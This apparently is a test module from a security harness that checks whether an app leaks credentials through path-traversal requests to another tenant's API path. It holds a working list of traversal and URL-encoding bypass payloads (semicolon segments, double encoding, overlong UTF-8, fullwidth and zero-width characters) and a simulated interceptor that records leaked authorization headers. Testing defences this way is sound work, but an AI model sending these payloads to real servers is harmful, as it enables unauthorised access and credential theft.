import { attack } from "../attack.js";

/** The path that a server resolves if it strips segment parameters, decodes once or twice, trims, and then resolves dots. */
function resolutionsOf(path: string): string[] {
  const decode = (text: string) => {
    try {
      return decodeURIComponent(text);
    } catch {
      return text;
    }
  };
  // RFC 3986 section 3.3 leaves `;` to the server: Tomcat and Jetty strip it, and what follows, from each segment.
  const withoutParameters = (text: string) => text.replace(/;[^/]*/g, "");
  const steps = [
    [withoutParameters],
    [decode, withoutParameters],
    [withoutParameters, decode],
    [decode, decode],
    [decode, decode, withoutParameters],
    [decode, (text: string) => text.replace(/[\s\0]+(?=\/|$)/g, "")],
  ];
  return steps.map((transform) => {
    const text = transform.reduce((result, step) => step(result), path).replaceAll("\\", "/");
    return new URL(text.replace(/^\/+/, "/"), "http://localhost").pathname;
  });
}

export default attack({
  name: "requests paths that some servers resolve to a place outside the API",
  threat: "single-execution theft",
  target: "strongroom",
  // Another path of the API's origin may belong to another tenant.
  async payload(it) {
    const other = "other-tenant";
    const ups = [
      "..;",
      "..;a=b",
      "%2e%2e;",
      "%2e%2e%3b",
      "%2e.%3Ba=b",
      "..%3b",
      "%252e%252e",
      "%252E%252e%253b",
      ".%252e",
      "..%20",
      "..%09",
      "..%00",
      "%2e%2e%20",
      "..%2520",
      "%25252e%25252e",
      "x/..;/..;",
      "..;/..;",
      ";/..;",
      "..%2f",
      "..%5c",
      "..%252f",
      "..;%2f",
      ".;/..;",
      "%c0%ae%c0%ae",
      "..%ef%bc%8f",
      "%ef%bc%8e%ef%bc%8e",
      "..%e2%80%8b",
    ];
    for (const up of ups) {
      for (const base of ["/api/v1/", "/api/v1;/", "/api/v1%3b/", "/api/v1"]) {
        await fetch(`${it.appUrl.slice(0, -1)}${base}${up}/${other}`).catch(() => {});
        await fetch(`${it.appUrl.slice(0, -1)}${base}${up}/${up}/${other}`).catch(() => {});
      }
    }
  },
  async play(stage) {
    const { site, lab } = stage;
    site.intercept = (request) => {
      const path = (request.url ?? "").split(/[?#]/)[0] ?? "";
      if (!path.includes("other-tenant")) return false;
      const outside = resolutionsOf(path).some((resolved) => !resolved.startsWith("/api/v1/"));
      if (outside) lab.attacker.add(stage.attackerPath.slice(1), JSON.stringify(request.headers));
      if (outside && request.headers.authorization) stage.endings.push(`ran: ${path}`);
      return false;
    };
    try {
      await stage.openSignedIn();
      await stage.inject();
    } finally {
      site.intercept = undefined;
    }
  },
});
